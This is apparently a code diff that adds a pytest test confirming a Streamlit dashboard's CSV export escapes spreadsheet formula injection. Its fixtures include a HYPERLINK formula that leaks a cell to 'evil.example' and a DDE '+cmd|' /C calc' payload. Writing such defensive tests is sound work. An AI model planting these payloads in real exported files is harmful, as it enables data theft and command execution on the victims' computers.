@@ -1,4 +1,5 @@
 """The Trends page through Streamlit's AppTest: figures, share of voice, drill-down, export, escaping."""
+import io
 from datetime import datetime, timedelta, timezone
 
 import pandas as pd
@@ -102,3 +103,41 @@ def test_an_empty_store_says_so(tmp_path, monkeypatch, rules_file):
     at = page()
     assert not at.exception
     assert "No classified mentions for these filters in this period." in [i.value for i in at.info]
+
+
+def downloaded(at: AppTest, storages: list, label: str) -> bytes:
+    """The bytes a download button hands the browser, read back from AppTest's in-memory media store."""
+    url = next(b.proto.url for b in at.get("download_button") if b.label == label)
+    name = url.rsplit("/", 1)[-1]
+    return next(s.get_file(name).content for s in storages if name.split(".")[0] in s._files_by_id)
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(trend_db, monkeypatch):
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    storages = []
+    init = MemoryMediaFileStorage.__init__
+    monkeypatch.setattr(MemoryMediaFileStorage, "__init__",
+                        lambda self, *a, **k: (init(self, *a, **k), storages.append(self))[0])
+    store = Store(trend_db)
+    now = datetime.now(timezone.utc)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    posts = [Mention("twitter", "f1", formula, author="+cmd|' /C calc'!A0", author_followers=5,
+                     created_at=now - timedelta(days=2)),
+             Mention("twitter", "f2", "  @SUM(1+1)", author="-2+3", created_at=now - timedelta(days=2))]
+    store.save_mentions(posts)
+    store.save_labels([Labels(m.key, "en", True, ("Aerolia",), "negative", -0.75, True, 0.9, "complaint", True, 50,
+                              model="test") for m in posts], sla=3600)
+    at = page()
+    at.toggle(key="tr_export").set_value(True).run()
+    assert not at.exception
+    data = downloaded(at, storages, "Download CSV")
+    rows = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    mine = rows.set_index("key").loc[["twitter:f1", "twitter:f2"]]
+    assert list(mine["text"]) == ["'" + formula, "'  @SUM(1+1)"]
+    assert list(mine["author"]) == ["'+cmd|' /C calc'!A0", "'-2+3"]
+    typed = pd.read_csv(io.BytesIO(data))
+    text_columns = typed.select_dtypes(exclude="number").columns
+    assert not rows[text_columns].map(lambda v: v[:1] in ("=", "+", "-", "@", "\t", "\r")).any().any()
+    # numbers stay numbers: a negative score is written as a number, not as quoted text
+    assert pd.api.types.is_float_dtype(typed["sentiment_score"]) and (typed["sentiment_score"] < 0).any()
